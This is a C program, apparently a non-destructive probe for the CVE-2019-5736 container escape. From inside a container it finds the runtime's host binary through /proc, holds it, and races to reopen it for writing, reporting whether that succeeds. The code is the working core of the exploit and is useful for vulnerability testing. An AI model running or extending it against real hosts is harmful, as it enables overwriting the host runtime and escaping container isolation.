/* CVE-2019-5736 from inside a container: wait for a process of this pid
 * namespace that runs the runtime's binary (any process other than this
 * one whose exe is not this program's), hold its exe with O_PATH, and try
 * to reopen that for writing until the deadline. Nothing is written: a
 * successful open is the proof. Writes one word to argv[1]: "writable",
 * "EROFS", "ETXTBSY", "notfound" or another errno name; and "caught" to
 * argv[1].caught once it holds the file.
 * usage: attack RESULT SECONDS */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

static void report(const char *path, const char *word) {
    char tmp[4096];
    snprintf(tmp, sizeof tmp, "%s.tmp", path);
    FILE *f = fopen(tmp, "w");
    if (!f) exit(2);
    fprintf(f, "%s\n", word);
    fclose(f);
    rename(tmp, path);
}

int main(int argc, char **argv) {
    if (argc != 3) return 2;
    double deadline = now() + atof(argv[2]);
    char self[4096] = {0};
    if (readlink("/proc/self/exe", self, sizeof self - 1) < 0) return 2;
    pid_t me = getpid();
    int held = -1;
    char seen[4200] = {0};
    while (held < 0 && now() < deadline) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d)) && held < 0) {
            pid_t pid = atoi(e->d_name);
            if (pid <= 0 || pid == me) continue;
            char link[64], target[4096] = {0};
            snprintf(link, sizeof link, "/proc/%d/exe", pid);
            if (readlink(link, target, sizeof target - 1) < 0) continue;
            if (strcmp(target, self) == 0) continue;
            held = open(link, O_PATH | O_CLOEXEC);
            if (held >= 0) snprintf(seen, sizeof seen, "%d %s", pid, target);
        }
        if (d) closedir(d);
    }
    if (held < 0) {
        report(argv[1], "notfound");
        return 0;
    }
    char caught[4096];
    snprintf(caught, sizeof caught, "%s.caught", argv[1]);
    report(caught, seen);
    char again[64];
    snprintf(again, sizeof again, "/proc/self/fd/%d", held);
    int last = 0;
    while (now() < deadline) {
        int w = open(again, O_WRONLY | O_APPEND | O_CLOEXEC);
        if (w >= 0) {
            close(w);
            report(argv[1], "writable");
            return 0;
        }
        last = errno;
        if (last != ETXTBSY) break;
        usleep(2000);
    }
    report(argv[1], last == EROFS ? "EROFS" : last == ETXTBSY ? "ETXTBSY" : strerror(last));
    return 0;
}
